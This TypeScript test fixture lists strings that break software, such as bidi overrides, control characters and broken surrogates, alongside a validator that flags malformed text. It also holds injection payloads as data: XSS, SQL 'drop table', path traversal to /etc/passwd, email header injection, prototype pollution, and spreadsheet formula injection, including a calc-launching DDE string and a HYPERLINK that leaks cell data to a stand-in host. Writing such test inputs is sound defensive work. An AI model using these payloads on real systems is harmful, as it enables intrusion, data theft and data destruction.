/**
 * Texts that break programs, by what they are: other scripts and their controls, characters that are none, and what becomes
 * markup, a formula or a header where it is not escaped.
 */
export const hostileTexts = {
  rightToLeft: 'שלום עולם — مرحبا بالعالم 123',
  bidiOverride: 'essay\u202Efdp.exe\u202C \u2067abc\u2069 \u200Fx\u200E',
  emoji: '👩🏽‍🚀 👨‍👩‍👧‍👦 🏳️‍🌈 🇺🇳 ✊🏿 1️⃣',
  zeroWidth: 'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf\u00ADg',
  apart: 'Jose\u200B\u0301 A\u034F\u030A',
  combining: 'e\u0301 Z\u0351\u036B\u0343\u036A a\u0328\u0301 \u1112\u1161\u11AB',
  tower: `a${'\u0344'.repeat(40)}`,
  controls: 'NUL\u0000 BEL\u0007 ESC\u001B[31m DEL\u007F NEL\u0085 CSI\u009B',
  lineEnds: 'one\r\ntwo\rthree\u2028four\u2029five\u000Bsix\u000Cseven\n',
  notCharacters: 'a\uFFFEb\uFFFFc\u{1FFFE}d\uFFFDe',
  halfPairs: '\uD800 x \uDC00 y \uDC00\uD800',
  privateUse: '\uE000 \u{F0000} \u{10FFFD} \u{E0041}',
  image: '<img src=x onerror="window.hacked=1">',
  script: '</textarea></title></script><script>window.hacked=1</script>',
  svg: '<svg/onload=window.hacked=1><a href="javascript:window.hacked=1">x</a>',
  attribute: `" onmouseover="window.hacked=1" x='`,
  template: '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> %s %n',
  link: '[open](javascript:window.hacked=1) [more](data:text/html,<script>window.hacked=1</script>)',
  picture: '![x](https://tracker.example/pixel.png) <https://tracker.example> https://tracker.example',
  markdown: '# *a* **b** _c_ `d` ~~e~~\n| a | b |\n|---|---|\n> quote\n1. one\n- two',
  formula: '=HYPERLINK("https://tracker.example?"&A1,"open")',
  plus: "+1+cmd|'/C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1+1)',
  tab: '\t=1+1',
  wideFormula: '＝1+1',
  header: 'Ada\r\nBcc: everybody@example.com\r\n\r\nHello',
  calendar: 'Due\r\nEND:VEVENT\r\nBEGIN:VALARM;,\\n:"',
  sql: `'; drop table users; --`,
  path: '../../../../etc/passwd',
  windowsPath: 'C:\\Windows\\con.txt:$DATA',
  json: '{"__proto__":{"admin":true}}',
  word: 'unbroken'.repeat(20),
} as const;

/** Characters that no stored text has: controls other than newline and tab. */
const CONTROLS = /[^\P{Cc}\n\t]/u;

/** What is wrong with the first text in a JSON value that could not have been stored; null where all could. */
export function unclean(value: unknown, path = '$'): string | null {
  if (typeof value === 'string') {
    const wrong =
      (!value.isWellFormed() && 'is not well-formed') ||
      (CONTROLS.test(value) && 'has a control character') ||
      (value.normalize('NFC') !== value && 'is not in NFC');
    return wrong ? `${path} ${wrong}: ${JSON.stringify(value.slice(0, 200))}` : null;
  }
  if (typeof value !== 'object' || value === null) return null;
  for (const [key, inner] of Object.entries(value)) {
    const wrong = unclean(inner, `${path}.${key}`);
    if (wrong) return wrong;
  }
  return null;
}
